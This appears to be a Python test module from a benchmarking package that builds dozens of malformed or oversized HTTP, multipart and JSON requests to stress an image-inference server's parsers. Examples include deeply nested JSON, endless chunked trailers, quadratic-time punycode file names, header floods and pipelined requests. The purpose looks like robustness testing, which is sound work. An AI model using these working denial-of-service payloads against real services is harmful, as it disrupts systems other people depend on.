"""Bytes that are cheap to send and may be expensive to parse: HTTP, forms, JSON, parameters, and answers."""

import itertools
import json
import socket
import struct
from collections.abc import Iterable, Iterator

from bench.attack.target import MULTIPART, Attacks, Target, chunked, repeated
from bench.http_load import BOUNDARY, form

ATTACKS = Attacks()
JSON = "application/json"
INFER = "/v2/models/ensemble_model/infer"
DELIMITER = f"--{BOUNDARY}\r\n".encode()
END = f"\r\n--{BOUNDARY}--\r\n".encode()
HEAD = b"POST /predict HTTP/1.1\r\nHost: x\r\nContent-Type: image/jpeg\r\nConnection: close\r\n"
CHUNKED = HEAD + b"Transfer-Encoding: chunked\r\n\r\n"


@ATTACKS.add()
def json_of_tiny_members(target: Target) -> str:
    """JSON with as many members and elements as its bound allows."""
    members = b",".join(b'"%x":[[],[]]' % number for number in range(5_000))
    return target.post(INFER, b"{" + members + b', "inputs": []}', JSON)


@ATTACKS.add()
def many_headers(target: Target) -> str:
    """As many headers as fit."""
    fields = b"".join(b"%x:\r\n" % number for number in range(6_000))
    return target.raw([HEAD + fields + b"Content-Length: 1\r\n\r\nx"])


@ATTACKS.add()
def many_parameters(target: Target) -> str:
    """As many query parameters as fit, none known."""
    query = "&".join(f"{number:x}" for number in range(11_000))
    return target.post(f"/predict?{query}", b"x", "image/jpeg")


@ATTACKS.add()
def pipelined_requests(target: Target) -> str:
    """Requests that do not wait for answers."""
    request = b"GET /nowhere HTTP/1.1\r\nHost: x\r\n\r\n"
    return target.raw(repeated(request, min(target.nbytes, 400_000), 400_000))


@ATTACKS.add()
def headers_of_a_part(target: Target) -> str:
    """Parts with as many headers as fit."""
    fields = b"".join(b"%x:\r\n" % number for number in range(1_800))
    part = b'Content-Disposition: form-data; name="f"; filename="x"\r\n' + fields + b"\r\nx\r\n"
    return target.post("/predict", _parts(part, target.nbytes), MULTIPART)


@ATTACKS.add()
def folded_headers_of_a_part(target: Target) -> str:
    """Parts with a header on thousands of lines, which take quadratic time to join."""
    part = b'Content-Disposition: form-data; name="f"; filename="x"\r\nX: a' + b"\r\n a" * 3_900 + b"\r\n\r\nx\r\n"
    return target.post("/predict", _parts(part, target.nbytes), MULTIPART)


@ATTACKS.add()
def blanks_of_a_part(target: Target) -> str:
    """Spaces after a boundary and before a header's value."""
    part = b'Content-Disposition:%bform-data; name="f"; filename="x"\r\n\r\nx' % (b" " * 15_000)
    delimiter = DELIMITER[:-2] + b" " * 15_000 + b"\r\n"
    count = min(900, target.nbytes // len(delimiter + part))
    return target.post("/predict", (delimiter + part + b"\r\n") * count + END, MULTIPART)


@ATTACKS.add()
def boundaries_that_are_none(target: Target) -> str:
    """A file full of what looks like its one-letter boundary."""
    head = b'--b\r\nContent-Disposition: form-data; name="f"; filename="x"\r\n\r\n'
    body = itertools.chain([head], repeated(b"\r\n--bx", target.nbytes), [b"\r\n--b--\r\n"])
    return target.post("/predict", body, "multipart/form-data; boundary=b")


@ATTACKS.add()
def numbers_beyond_all_bounds(target: Target) -> str:
    """Timeouts, counts and thresholds of 10^400, infinity and NaN."""
    huge = b"1" + b"0" * 400
    answers = [target.post(INFER, b'{"parameters": {"timeout": %b}, "inputs": []}' % huge, JSON)]
    for name, value in itertools.product(("timeout", "top_k", "threshold"), ("1e999", "nan", "-inf", huge.decode())):
        answers.append(target.post(f"/predict?{name}={value}", b"x", "image/jpeg"))
    return ", ".join(sorted(set(answers)))


@ATTACKS.add()
def labels_of_commas(target: Target) -> str:
    """Three hundred images and 200,000 labels, all but one of them empty."""
    field = b'Content-Disposition: form-data; name="labels"\r\n\r\nclass 1' + b"," * 2_000 + b"\r\n"
    image = b'Content-Disposition: form-data; name="f"; filename="x"\r\n\r\n' + SMALL_BMP + b"\r\n"
    return target.post("/predict", (DELIMITER + field) * 99 + (DELIMITER + image) * 300 + END[2:], MULTIPART)


@ATTACKS.add()
def requests_behind_one_that_is_left(target: Target) -> str:
    """Requests behind another whose client leaves before its answer."""
    body = b"".join(form([SMALL_BMP] * 40))
    head = f"POST /predict HTTP/1.1\r\nHost: x\r\nContent-Type: {MULTIPART}\r\nContent-Length: {len(body)}\r\n\r\n"
    with target.connect() as connection:
        connection.sendall(head.encode() + body + b"GET /nowhere HTTP/1.1\r\nHost: x\r\n\r\n" * 12)
        connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))  # close by a reset
    return "left"


@ATTACKS.add()
def offers_of_other_protocols(target: Target) -> str:
    """A thousand requests that offer WebSocket, in one piece."""
    offer = b"GET /nowhere HTTP/1.1\r\nHost: x\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n\r\n"
    return target.raw([offer * 1_000])


def _bmp(side: int) -> bytes:
    """A gray picture, uncompressed."""
    pixels = bytes([128]) * (side * side * 3)
    header = b"BM" + (54 + len(pixels)).to_bytes(4, "little") + bytes(4) + (54).to_bytes(4, "little")
    size = (40).to_bytes(4, "little") + side.to_bytes(4, "little") * 2
    return header + size + b"\x01\x00\x18\x00" + bytes(24) + pixels


SMALL_BMP = _bmp(8)


def _named(target: Target, parameter: str) -> str:
    """Files whose Content-Disposition has a parameter, as many as the attack may be large."""
    part = f'Content-Disposition: form-data; name="f"; {parameter}\r\n\r\nx\r\n'.encode()
    return target.post("/predict", _parts(part, target.nbytes), MULTIPART)


def _parts(part: bytes, nbytes: int) -> bytes:
    return (DELIMITER + part) * max(1, min(900, nbytes // len(DELIMITER + part))) + END[2:]


def _base64(unit: bytes, nbytes: int) -> Iterable[bytes]:
    """A JSON request with an image whose text repeats `unit`."""
    return itertools.chain([b'{"images": [{"b64": "'], repeated(unit, nbytes), [b'"}]}'])


def http_attacks() -> Iterator[bytes]:
    """Seeds of mutations: small requests of many kinds, as they go over the wire."""
    yield HEAD + b"Content-Length: 4\r\n\r\nabcd"
    yield CHUNKED + b"".join(chunked([b"ab", b"cd"]))
    yield CHUNKED + b"4;a=b\r\nabcd\r\n0\r\nA: b\r\n\r\n"
    yield b"GET /health/live?a=b HTTP/1.1\r\nHost: x\r\nConnection: keep-alive\r\n\r\n" * 2
    for content_type, path, body in (
        (MULTIPART, "/predict?top_k=2", b"".join(form([SMALL_BMP, b"x"]))),
        (JSON, "/predict", b'{"images": [{"b64": "QUJD", "filename": "a\\u0041.jpg"}, {"b64": ""}]}'),
        (
            JSON,
            INFER,
            b'{"id": "1", "inputs": [{"name": "IMAGE", "shape": [1], "datatype": "BYTES", "data": ["QQ=="]}]}',
        ),
    ):
        head = f"POST {path} HTTP/1.1\r\nHost: x\r\nContent-Type: {content_type}\r\nContent-Length: {len(body)}\r\n\r\n"
        yield head.encode() + body


# fmt: off
ATTACKS.rows(
    ("json-of-blanks", "JSON of nothing but spaces",
     lambda target: target.post("/predict", b" " * target.nbytes, JSON)),
    ("json-of-blanks-in-v2", "Spaces in the middle of a request of the Open Inference Protocol",
     lambda target: target.post(INFER, b'{"inputs": [' + b"\n" * target.nbytes + b"]}", JSON)),
    ("json-nested", "JSON that is nested a million deep",
     lambda target: target.post(INFER, b'{"parameters": ' + b"[" * (target.nbytes // 8), JSON)),
    ("json-of-escapes", "Base64 of which every character is an escape",
     lambda target: target.post("/predict", _base64(b"\\u0041", target.nbytes), JSON)),
    ("json-of-junk", "Text that is not base64",
     lambda target: target.post("/predict", _base64(b"=A-_ \\n", target.nbytes), JSON)),
    ("json-of-tiny-images", "A thousand images of one byte",
     lambda target: target.post("/predict", json.dumps({"images": [{"b64": "QQ=="}] * 1_000}).encode(), JSON)),
    ("trailer-without-end", "A trailer that does not end, behind a body in chunks",
     lambda target: target.raw(itertools.chain([CHUNKED + b"0\r\nA: "], repeated(b"x", target.nbytes)))),
    ("trailers-without-end", "Trailers without end",
     lambda target: target.raw(itertools.chain([CHUNKED + b"0\r\n"], repeated(b"a:\r\n", target.nbytes)))),
    ("chunk-extension-without-end", "A chunk whose extension does not end",
     lambda target: target.raw(itertools.chain([CHUNKED + b"1;a="], repeated(b"x", target.nbytes)))),
    ("tiny-chunks", "A body in chunks of one byte",
     lambda target: target.raw(itertools.chain([CHUNKED], repeated(b"1\r\nx\r\n", target.nbytes), [b"0\r\n\r\n"]))),
    ("host-that-is-none", "A Host header that is not a host",
     lambda target: target.raw([b"GET /nowhere HTTP/1.1\r\nHost: [\r\nConnection: close\r\n\r\n"])),
    ("charset-of-a-name-that-is-slow", "File names in punycode, which Python decodes in quadratic time",
     lambda target: _named(target, "filename*=punycode''" + "a" * 10_000 + "-" + "9" * 4_000)),
    ("charset-of-a-name-that-fails", "A file name in a charset that Python always refuses",
     lambda target: _named(target, "filename*=undefined''x")),
    ("parameters-of-a-part", "Parts whose header has thousands of parameters",
     lambda target: _named(target, 'filename="x"' + ";a=b" * 4_000)),
    ("tiny-parts", "A thousand files of one byte in one piece",
     lambda target: target.post_files([b"x"] * 1_000)),
    ("large-answer", "A thousand small images with a thousand predictions each",
     lambda target: target.post_files([SMALL_BMP] * 1_000, "?top_k=1000&timeout=100")),
    ("label-that-is-unknown",
     "Two hundred images and an unknown label, which is answered with suggestions",
     lambda target: target.post_files([SMALL_BMP] * 200, "?labels=Egyptain%20cat" + "x" * 10_000)),
    ("length-of-thousands-of-digits", "A Content-Length of 4, behind 5,000 zeros",
     lambda target: target.raw([HEAD + b"Content-Length: " + b"0" * 5_000 + b"4\r\n\r\nabcd"])),
)
# fmt: on
